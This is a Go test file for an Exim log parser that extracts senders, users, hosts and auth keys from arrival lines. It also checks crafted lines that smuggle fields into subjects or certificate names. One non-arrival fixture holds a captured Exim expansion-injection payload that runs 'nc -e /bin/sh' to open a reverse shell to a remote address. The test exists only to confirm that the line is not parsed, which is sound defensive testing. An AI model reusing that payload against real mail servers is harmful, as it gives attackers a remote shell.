package exim

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/spam-gear/spamcheck/pkg/timestamp"
)

// nilField stands for a field Exim did not log, so that the tables can
// tell it from one logged empty.
const nilField = "<nil>"

func str(b []byte) string {
	if b == nil {
		return nilField
	}
	return string(b)
}

// parsed is what a test expects of a line: the three keys, and the raw
// fields behind them.
type parsed struct {
	Local, SMTP, Auth string
	Sender, User      string
	Proto             string
	Host              string // "name|helo|addr|port", or nilField without H=
}

// stampLen is the timestamp length timestamp.Parser reports for line, 0
// when it has none.
func stampLen(line []byte) int {
	p := timestamp.NewParser(time.Date(2026, 11, 27, 18, 0, 0, 0, time.UTC), time.UTC)
	_, n, _ := p.Parse(line)
	return n
}

func parse(line string) (parsed, bool) {
	a, ok := ParseLine([]byte(line), stampLen([]byte(line)))
	host := nilField
	if a.HasHost {
		host = str(a.Host.Name) + "|" + str(a.Host.HELO) + "|" + str(a.Host.Addr) + "|" + str(a.Host.Port)
	}
	return parsed{
		Local: str(a.LocalKey()), SMTP: str(a.SMTPKey()), Auth: str(a.AuthKey()),
		Sender: str(a.Sender), User: str(a.User), Proto: str(a.Proto), Host: host,
	}, ok
}

// local, smtp build expectations for the common shapes.
func local(sender, user, proto string) parsed {
	return parsed{Local: user, SMTP: nilField, Auth: nilField, Sender: sender, User: user, Proto: proto, Host: nilField}
}

func smtp(key, sender, proto, host string) parsed {
	return parsed{Local: nilField, SMTP: key, Auth: nilField, Sender: sender, User: nilField, Proto: proto, Host: host}
}

func TestParseLine(t *testing.T) {
	tests := []struct {
		name string
		line string
		want parsed
	}{
		// Real Debian mainlog (corpus exim-mainlog.log).
		{"local root", "2020-02-22 01:01:56 1j5IF1-0006A7-Ub <= root@edward.rosnix.net U=root P=local S=18235693",
			local("root@edward.rosnix.net", "root", "local")},
		{"bounce from Debian-exim", "2020-02-22 07:09:24 1j5Nye-0004Xw-5I <= <> R=1j5NyY-0004Xp-NZ U=Debian-exim P=local S=2233",
			local("<>", "Debian-exim", "local")},
		{"verified name, HELO not shown", "2020-02-22 01:31:25 1j5IhX-0006pK-Rt <= plusgirot@nordea.com H=mail1.bemta26.messagelabs.com [85.158.142.5] P=esmtp S=4502 id=xPvw9194h6.plusgirot@nordea.com",
			smtp("mail1.bemta26.messagelabs.com", "plusgirot@nordea.com", "esmtp", "mail1.bemta26.messagelabs.com|<nil>|85.158.142.5|<nil>")},
		{"name and differing HELO", "2020-02-22 01:37:58 1j5Inj-0006ua-SB <= per-eric.rosen@pol.uppsala.se H=mail-eopbgr60075.outbound.protection.outlook.com (EUR04-DB3-obe.outbound.protection.outlook.com) [40.107.6.75] P=esmtp S=25859",
			smtp("EUR04-DB3-obe.outbound.protection.outlook.com", "per-eric.rosen@pol.uppsala.se", "esmtp",
				"mail-eopbgr60075.outbound.protection.outlook.com|EUR04-DB3-obe.outbound.protection.outlook.com|40.107.6.75|<nil>")},
		{"unverified HELO only", "2020-02-22 03:01:54 1j5K74-0008JX-T4 <= winner@velvetgame.icu H=(velvetgame.icu) [193.31.117.205] P=esmtp S=14748 id=cNExZrNI_TXUuOwEdGnCF2Q9hbo7hEOhbK2ODd0OD3k.wHl-NZUeTwZsmaDp-RjbzQ@velvetgame.icu",
			smtp("velvetgame.icu", "winner@velvetgame.icu", "esmtp", "<nil>|velvetgame.icu|193.31.117.205|<nil>")},
		{"SMTP from localhost with ident is local", "2020-02-22 01:44:40 1j5IuO-00070a-Pa <= noreply@pilgrimbrevet.se H=localhost (edward.rosnix.net) [127.0.0.1] U=www-data P=esmtp S=1025 id=20200222004440.2709.64126@edward.rosnix.net",
			parsed{Local: "www-data", SMTP: nilField, Auth: nilField, Sender: "noreply@pilgrimbrevet.se", User: "www-data", Proto: "esmtp", Host: "localhost|edward.rosnix.net|127.0.0.1|<nil>"}},
		{"plus and equals in the sender", "2020-02-22 03:52:44 1j5KuI-0000p6-7P <= lilypond-user-bounces+per=rosnix.net@gnu.org H=lists.gnu.org [209.51.188.17] P=esmtp S=6457 id=20200222025211.zzb3fok42iy6pbyp@masonhock.com",
			smtp("lists.gnu.org", "lilypond-user-bounces+per=rosnix.net@gnu.org", "esmtp", "lists.gnu.org|<nil>|209.51.188.17|<nil>")},
		{"broken mailname sender", "2016-12-18 19:49:30 1cIm8w-0000yI-6V <= root@ETC_MAILNAME U=root P=local S=307",
			local("root@ETC_MAILNAME", "root", "local")},
		{"web application, P=local with id=", "2020-03-04 19:25:08 1j9Zdk-00029d-Bi <= trula@mail.cup.com U=www-data P=local S=8714 id=20200304192508.Horde.g3OQpszuommgdrQpHrx6wIc@mail.cup.com",
			local("trula@mail.cup.com", "www-data", "local")},

		// Exim's test suite (corpus exim-testsuite.log): field shapes.
		{"caller", "1999-03-02 09:44:33 10HmaX-000000005vi-0000 <= CALLER@myhost.test.ex U=CALLER P=local S=sss",
			local("CALLER@myhost.test.ex", "CALLER", "local")},
		{"pid selector", "1999-03-02 09:44:33 [1234] 10HmaX-000000005vi-0000 <= CALLER@myhost.test.ex U=CALLER P=local S=sss",
			local("CALLER@myhost.test.ex", "CALLER", "local")},

		// Exim logging through syslog (log_file_path = syslog), FORMATS §3.8.
		{"syslog, Exim stamp kept", "Nov 27 17:05:08 mx exim[1234]: 2026-11-27 17:05:08 1j5IF1-0006A7-Ub <= a@example.net U=root P=local S=1",
			local("a@example.net", "root", "local")},
		{"syslog, syslog_timestamp = false", "Jun 29 16:04:19 server exim[1234]: 1j5IF1-0006A7-Ub <= a@example.net U=root P=local S=1",
			local("a@example.net", "root", "local")},
		{"syslog RFC 3339, Exim stamp with zone and millisec", "2026-11-27T17:05:08.123456+01:00 mx exim4[99]: 2026-11-27 17:05:08.123 +0100 1j5IF1-0006A7-Ub <= s@example.org H=(helo.example) [192.0.2.7] P=esmtp S=9",
			smtp("helo.example", "s@example.org", "esmtp", "<nil>|helo.example|192.0.2.7|<nil>")},
		{"syslog-ng with pid in the message", "2016-04-01T11:08:00 info exim[8003]: [8003] 1j5IF1-0006A7-Ub <= a@example.net U=www-data P=local S=1",
			local("a@example.net", "www-data", "local")},
		{"syslog-ng, space-separated date", "2016-04-01 11:08:00 info exim[8003]: [8003] 1j5IF1-0006A7-Ub <= a@example.net U=www-data P=local S=1",
			local("a@example.net", "www-data", "local")},
		{"millisec and RT=", "2017-07-30 18:51:05.712 10HmaZ-000000005vi-0000 <= CALLER@myhost.test.ex U=CALLER P=local S=sss RT=q.qqqs",
			local("CALLER@myhost.test.ex", "CALLER", "local")},
		{"bounce as EXIMUSER", "1999-03-02 09:44:33 10HmbD-000000005vi-0000 <= <> R=10HmaY-000000005vi-0000 U=EXIMUSER P=local S=sss",
			local("<>", "EXIMUSER", "local")},
		{"subject with escaped quotes", `1999-03-02 09:44:33 10HmbA-000000005vi-0000 <= CALLER@test.ex U=CALLER P=local S=sss T="subject contains \"quotes\" and \\backslashes\\ and\n  \007 non-prints over multiple\n  lines"`,
			local("CALLER@test.ex", "CALLER", "local")},
		{"quoted local part", `1999-03-02 09:44:33 10HmaX-000000005vi-0000 <= "abc@xyz"@myhost.test.ex U=abc@xyz P=local S=sss`,
			local(`"abc@xyz"@myhost.test.ex`, "abc@xyz", "local")},
		{"escaped quote in sender and quote in U=", `1999-03-02 09:44:33 10HmbB-000000005vi-0000 <= "a\"b"@myhost.test.ex U=a"b P=local S=sss`,
			local(`"a\"b"@myhost.test.ex`, `a"b`, "local")},
		{"local-smtp", "1999-03-02 09:44:33 10HmaX-000000005vi-0000 <= someone@some.domain U=CALLER P=local-smtp S=sss",
			local("someone@some.domain", "CALLER", "local-smtp")},
		{"local-bsmtp", "1999-03-02 09:44:33 10HmaX-000000005vi-0000 <= someone@some.where U=CALLER P=local-bsmtp S=sss",
			local("someone@some.where", "CALLER", "local-bsmtp")},
		{"Ci= and recipients", "1999-03-02 09:44:33 10HmaX-000000005vi-0000 <= CALLER@myhost.test.ex U=CALLER Ci=p1234 P=local S=sss for userx1@test.ex userx2@test.ex userx3@test.ex",
			local("CALLER@myhost.test.ex", "CALLER", "local")},
		{"A= without id is no auth key", "1999-03-02 09:44:33 10HmaX-000000005vi-0000 <= userx@test.ex H=(rhu.barb) [10.0.0.0] U=CALLER P=esmtpa A=plain S=sss",
			parsed{Local: "CALLER", SMTP: nilField, Auth: nilField, Sender: "userx@test.ex", User: "CALLER", Proto: "esmtpa", Host: "<nil>|rhu.barb|10.0.0.0|<nil>"}},
		{"A=name:id", "1999-03-02 09:44:33 10HmaZ-000000005vi-0000 <= CALLER@myhost.test.ex H=localhost (myhost.test.ex) [127.0.0.1] P=esmtpsa X=TLS1.x:ke-RSA-AES256-SHAnnn:xxx A=plain:userx S=sss id=E10HmaX-000000005vi-0000@myhost.test.ex",
			parsed{Local: nilField, SMTP: "myhost.test.ex", Auth: "userx", Sender: "CALLER@myhost.test.ex", User: nilField, Proto: "esmtpsa", Host: "localhost|myhost.test.ex|127.0.0.1|<nil>"}},
		{"third A= part is not the id", "1999-03-02 09:44:33 10HmaX-000000005vi-0000 <= CALLER@myhost.test.ex H=hostname [5.6.7.8] U=ident P=protocol A=authname:authid:authsender S=sss",
			parsed{Local: "ident", SMTP: nilField, Auth: "authid", Sender: "CALLER@myhost.test.ex", User: "ident", Proto: "protocol", Host: "hostname|<nil>|5.6.7.8|<nil>"}},
		{"authenticated bounce", "1999-03-02 09:44:33 10HmaY-000000005vi-0000 <= <> H=localhost (myhost.test.ex) [127.0.0.1] P=esmtpa A=dovecot:goodman S=sss id=E10HmaX-000000005vi-0000@myhost.test.ex",
			parsed{Local: nilField, SMTP: "myhost.test.ex", Auth: "goodman", Sender: "<>", User: nilField, Proto: "esmtpa", Host: "localhost|myhost.test.ex|127.0.0.1|<nil>"}},
		{"proxy, port, xclient", "1999-03-02 09:44:33 10HmaY-000000005vi-0000 <= c@test.ex H=proxylookedupname.net (clienthelo) [127.0.0.2]:10007 P=esmtpsa X=TLS1.x:ke-RSA-AES256-SHAnnn:xxx A=xclient:hisloginname PRX=ip4.ip4.ip4.ip4 S=sss",
			parsed{Local: nilField, SMTP: "clienthelo", Auth: "hisloginname", Sender: "c@test.ex", User: nilField, Proto: "esmtpsa", Host: "proxylookedupname.net|clienthelo|127.0.0.2|10007"}},
		{"pipelining and chunking flags", "1999-03-02 09:44:33 10HmbC-000000005vi-0000 <= CALLER@the.local.host.name H=localhost (the.local.host.name) [127.0.0.1] P=esmtpsa L. X=TLS1.x:ke-RSA-AES256-SHAnnn:xxx A=plain:userx K S=sss id=E10HmbB-000000005vi-0000@the.local.host.name for nocache@test.ex",
			parsed{Local: nilField, SMTP: "the.local.host.name", Auth: "userx", Sender: "CALLER@the.local.host.name", User: nilField, Proto: "esmtpsa", Host: "localhost|the.local.host.name|127.0.0.1|<nil>"}},
		{"DN= with blanks", `1999-03-02 09:44:33 10HmaY-000000005vi-0000 <= CALLER@myhost.test.ex H=localhost (myhost.test.ex) [127.0.0.1] P=esmtps X=TLS1.x:AES256-SHA:256 CV=yes DN="/C=UK/O=The Exim Maintainers/OU=Test Suite/CN=Phil Pennock" S=sss id=E10HmaX-000000005vi-0000@myhost.test.ex`,
			smtp("myhost.test.ex", "CALLER@myhost.test.ex", "esmtps", "localhost|myhost.test.ex|127.0.0.1|<nil>")},
		{"address without HELO, with ident", "1999-03-02 09:44:33 10HmbI-000000005vi-0000 <= ok@test3 H=[10.9.8.8] U=CALLER P=smtp S=sss",
			parsed{Local: "CALLER", SMTP: nilField, Auth: nilField, Sender: "ok@test3", User: "CALLER", Proto: "smtp", Host: "<nil>|<nil>|10.9.8.8|<nil>"}},
		{"IPv6 loopback", "1999-03-02 09:44:33 10HmaZ-000000005vi-0000 <= CALLER@the.local.host.name H=(the.local.host.name) [::1] P=esmtp S=sss id=E10HmaX-000000005vi-0000@the.local.host.name for testx@cname46.test.ex",
			smtp("the.local.host.name", "CALLER@the.local.host.name", "esmtp", "<nil>|the.local.host.name|::1|<nil>")},
		{"IPv6 literal HELO", "1999-03-02 09:44:33 10HmaY-000000005vi-0000 <= <> H=([IPV6:ip6:ip6:ip6:ip6:ip6:ip6:ip6:ip6]) [ip6:ip6:ip6:ip6:ip6:ip6:ip6:ip6] P=esmtp S=sss",
			smtp("[IPV6:ip6:ip6:ip6:ip6:ip6:ip6:ip6:ip6]", "<>", "esmtp", "<nil>|[IPV6:ip6:ip6:ip6:ip6:ip6:ip6:ip6:ip6]|ip6:ip6:ip6:ip6:ip6:ip6:ip6:ip6|<nil>")},
		{"IPv4 literal HELO", "2020-02-22 00:48:43 1j5K74-0008JX-T4 <= x@y H=([185.143.223.163]) [185.143.223.168] P=esmtp S=1",
			smtp("[185.143.223.163]", "x@y", "esmtp", "<nil>|[185.143.223.163]|185.143.223.168|<nil>")},
		{"port, interface and Ci=", "1999-03-02 09:44:33 10HmaZ-000000005vi-0000 <= x@y.x H=(test) [127.0.0.1]:10004 I=[127.0.0.1]:PORT_D Ci=p1240 P=smtp S=sss",
			smtp("test", "x@y.x", "smtp", "<nil>|test|127.0.0.1|10004")},

		// Own cases: the traps of FORMATS.md §3.
		{"U= and H= inside the subject", `2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= s@evil.tld H=mx.evil.tld (evil) [192.0.2.9] P=esmtp S=10 T="subject with U=x H=(y)"`,
			smtp("evil", "s@evil.tld", "esmtp", "mx.evil.tld|evil|192.0.2.9|<nil>")},
		{"U= inside DN=", `2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= s@evil.tld H=(evil) [192.0.2.9] P=esmtps X=TLS1.3:TLS_AES_256_GCM_SHA384:256 CV=yes DN="/CN=U=root P=local" S=10`,
			smtp("evil", "s@evil.tld", "esmtps", "<nil>|evil|192.0.2.9|<nil>")},
		{"parenthesis in the sender", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= we(i)rd@example.net H=[192.0.2.1] P=smtp S=1",
			smtp("192.0.2.1", "we(i)rd@example.net", "smtp", "<nil>|<nil>|192.0.2.1|<nil>")},
		{"quoted local part with blanks", `2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= "john smith"@example.com U=john P=local S=1`,
			local(`"john smith"@example.com`, "john", "local")},
		{"fields inside a quoted sender", `2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= "x U=root y"@example.com H=(helo.example) [192.0.2.1] P=esmtp S=1`,
			smtp("helo.example", `"x U=root y"@example.com`, "esmtp", "<nil>|helo.example|192.0.2.1|<nil>")},
		{"stray quote in the sender", `2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a"b@example.com U=www-data P=local S=1`,
			local(`a"b@example.com`, "www-data", "local")},
		{"millisec, zone and pid", "2026-11-27 18:00:00.123 +0100 [4242] 1vXyZa-00000000AbC-DeFg <= a@example.com U=alice P=local S=1",
			local("a@example.com", "alice", "local")},
		{"23-character message id", "2026-11-27 17:00:01 1vXyZa-00000000AbC-DeFg <= a@example.com U=alice P=local S=1",
			local("a@example.com", "alice", "local")},
		{"name, HELO, IPv6 and port", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=mx.example.net (helo.example.net) [2001:db8::25]:49152 I=[2001:db8::1]:25 P=esmtps S=1",
			smtp("helo.example.net", "a@example.net", "esmtps", "mx.example.net|helo.example.net|2001:db8::25|49152")},
		{"IPv6 address only", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=[2001:db8::25]:587 P=esmtp S=1",
			smtp("2001:db8::25", "a@example.net", "esmtp", "<nil>|<nil>|2001:db8::25|587")},
		{"empty HELO falls back to the address", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=() [192.0.2.7] P=smtp S=1",
			smtp("192.0.2.7", "a@example.net", "smtp", "<nil>||192.0.2.7|<nil>")},
		{"empty HELO falls back to the name", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=host.example.net () [192.0.2.7] P=smtp S=1",
			smtp("host.example.net", "a@example.net", "smtp", "host.example.net||192.0.2.7|<nil>")},
		{"junk HELO with blanks and a parenthesis", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=(a b) c) [192.0.2.8] P=esmtp S=1",
			smtp("a b) c", "a@example.net", "esmtp", "<nil>|a b) c|192.0.2.8|<nil>")},
		{"esmtpa with dovecot_login", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= info@shop.example H=(DESKTOP-4F2K) [198.51.100.23]:51234 P=esmtpa A=dovecot_login:info@shop.example S=2048 id=x@y",
			parsed{Local: nilField, SMTP: "DESKTOP-4F2K", Auth: "info@shop.example", Sender: "info@shop.example", User: nilField, Proto: "esmtpa", Host: "<nil>|DESKTOP-4F2K|198.51.100.23|51234"}},
		{"empty A= id", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=(h) [192.0.2.1] P=esmtpa A=plain: S=1",
			smtp("h", "a@example.net", "esmtpa", "<nil>|h|192.0.2.1|<nil>")},
		{"from and for end the fields", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=(h) [192.0.2.1] P=esmtp S=1 from <U=x@y> for U=root@example.net",
			smtp("h", "a@example.net", "esmtp", "<nil>|h|192.0.2.1|<nil>")},
		{"first occurrence counts", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net U=first P=local U=second P=other S=1",
			local("a@example.net", "first", "local")},
		{"empty U= is neither local nor SMTP", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=(h) [192.0.2.1] U= P=esmtp S=1",
			parsed{Local: nilField, SMTP: nilField, Auth: nilField, Sender: "a@example.net", User: "", Proto: "esmtp", Host: "<nil>|h|192.0.2.1|<nil>"}},
		{"H= without P= is not SMTP", "2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net H=(h) [192.0.2.1] S=1",
			parsed{Local: nilField, SMTP: nilField, Auth: nilField, Sender: "a@example.net", User: nilField, Proto: nilField, Host: "<nil>|h|192.0.2.1|<nil>"}},
		{"no stamp, no id", "<= a@example.net U=x P=local",
			parsed{Local: nilField, SMTP: nilField, Auth: nilField, Sender: nilField, User: nilField, Proto: nilField, Host: nilField}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, ok := parse(tc.line)
			wantOK := tc.want.Sender != nilField
			if ok != wantOK {
				t.Fatalf("ParseLine(%q) ok = %v, want %v", tc.line, ok, wantOK)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("ParseLine(%q) mismatch (-want +got):\n%s", tc.line, diff)
			}
		})
	}
}

// TestParseLineNotArrivals: lines that carry H=, P=, U= or even "<=" but
// are not arrivals.
func TestParseLineNotArrivals(t *testing.T) {
	lines := []string{
		"2020-02-22 00:48:43 H=([185.143.223.163]) [185.143.223.168] Warning: unknown recipient explain@dissonantia.se from fhlon4qcwjl2f1m@mirdifphysiorehab.com",
		"2020-02-22 00:58:55 1j5IBw-00064P-De F=toyaedypo@evowpmy.com H=xdsl-178-35-123-109.soes.su (evowpmy.com) [178.35.123.109] P=smtp rejected by local_scan(): Rejected",
		"2020-02-22 01:02:05 1j5IF1-0006A7-Ub => per@rosnix.net <root@edward.rosnix.net> R=dnslookup_vpn T=remote_smtp_smarthost H=dront.rosnix [192.168.120.5]",
		`2020-02-22 01:31:26 1j5IhX-0006pK-Rt => anders.warnqvist@gmail.com <kassor@ucf.se> R=dnslookup T=remote_smtp H=gmail-smtp-in.l.google.com [108.177.15.26] X=TLS1.2:RSA_AES_128_CBC_SHA1:128 DN="C=US,ST=California,L=Mountain View,O=Google LLC,CN=mx.google.com"`,
		"2016-12-18 19:49:30 1cIm8w-0000yM-CW Error while reading message with no usable sender address (R=1cIm8w-0000yI-6V): at least one malformed recipient address: root@ETC_MAILNAME - malformed address: _MAILNAME may not follow root@ETC",
		`2020-03-04 19:36:19 1j9ZoZ-0002Jk-9W ** ${run{\x2fbin\x2fsh\t-c\t\x22nc\t-e\t\x2fbin\x2fsh\t192.168.10.238\t9963\x22}}@localhost: Too many "Received" headers - suspected mail loop`,
		"1999-03-02 09:44:33 10HmaX-000000005vi-0000 (= CALLER@myhost.test.ex U=CALLER P=local-smtp S=sss",
		"1999-03-02 09:44:33 10HmbC-000000005vi-0000 (= b2@dump.ex H=localhost (myhost.test.ex) [127.0.0.1] P=esmtp S=sss for rmt_fakereject@test.ex",
		"2013-06-09 10:21:28 [14127] 1UlasQ-0003fr-45 F=mcorporation4@aol.com H=(mail38.fssprus.ru) [46.254.240.82]:43671 I=[1.2.3.4]:25 P=esmtp rejected by local_scan(): Rejected",
		// "<=" in attacker text of a reject line: no message id before it.
		"2026-11-27 17:30:00 H=(x 1ab-cd <= y U=root) [192.0.2.1] rejected RCPT <a@b>: relay not permitted",
		"2026-11-27 17:30:00 <= a@example.net U=root P=local",
		"2026-11-27 17:30:00 [12] <= a@example.net U=root P=local",
		"2026-11-27 17:30:00 [] 1vXyZa-0001Ab-Cd <= a@example.net U=root P=local",
		// Exim through syslog: a line split at 870 bytes, another daemon's
		// tag, and a tag without its colon are not arrivals.
		"Jun 29 16:04:19 server exim[1234]: [1/2] 1j5IF1-0006A7-Ub <= a@example.net U=root P=local S=1",
		"Jun 29 16:04:19 server postfix[1234]: 1j5IF1-0006A7-Ub <= a@example.net U=root P=local S=1",
		"Jun 29 16:04:19 server exim[1234] 1j5IF1-0006A7-Ub <= a@example.net U=root P=local S=1",
		"",
	}
	for _, line := range lines {
		if a, ok := ParseLine([]byte(line), stampLen([]byte(line))); ok {
			t.Errorf("ParseLine(%q) = %+v, true; want not an arrival", line, a)
		}
	}
}

// TestParseLineBadStamp: a stamp length outside the line is not an arrival
// and does not panic.
func TestParseLineBadStamp(t *testing.T) {
	line := []byte("2026-11-27 17:30:00 1vXyZa-0001Ab-Cd <= a@example.net U=root P=local")
	for _, n := range []int{-1, len(line) + 1} {
		if _, ok := ParseLine(line, n); ok {
			t.Errorf("ParseLine(line, %d) ok, want false", n)
		}
	}
	if _, ok := ParseLine(line, 19); !ok {
		t.Errorf("ParseLine(line, 19) not ok")
	}
}

// TestParseLineRealExim parses every line Exim 4.96 (Debian 12, default
// log_selector) wrote in the end-to-end scenario (e2e/testdata), and
// checks the keys of each: local, SMTP and auth, or not an arrival.
func TestParseLineRealExim(t *testing.T) {
	type keys struct{ Local, SMTP, Auth string }
	want := map[string][]*keys{
		"testdata/real-exim-mainlog.log": {
			nil, // daemon started
			{nilField, "laptop", "spammer"},
			nil, nil, nil, // delivery, Completed, no host name
			{nilField, "bulk.example", nilField},
			{"webshop", nilField, nilField},
			{nilField, "127.0.0.9", nilField},
			{nilField, "carol-pc", "carol@e2e.test"},
			{nilField, "mail-4.net-b.example", nilField},
			{nilField, "laptop", "spammer"},
			{nilField, "bulk.example", nilField},
			{nilField, "5-0-0-127.pool.net-c.example", nilField},
			nil, nil, // authenticator failed, rejected RCPT
		},
		"testdata/real-exim-rejectlog.log": {nil, nil},
	}
	for file, lines := range want {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		got := strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
		if len(got) != len(lines) {
			t.Fatalf("%s: %d lines, the table has %d", file, len(got), len(lines))
		}
		for i, line := range got {
			p, ok := parse(line)
			if ok != (lines[i] != nil) {
				t.Errorf("%s:%d: ParseLine ok = %v, want %v: %s", file, i+1, ok, !ok, line)
				continue
			}
			if !ok {
				continue
			}
			if diff := cmp.Diff(*lines[i], keys{p.Local, p.SMTP, p.Auth}); diff != "" {
				t.Errorf("%s:%d: keys mismatch (-want +got):\n%s", file, i+1, diff)
			}
		}
	}
}
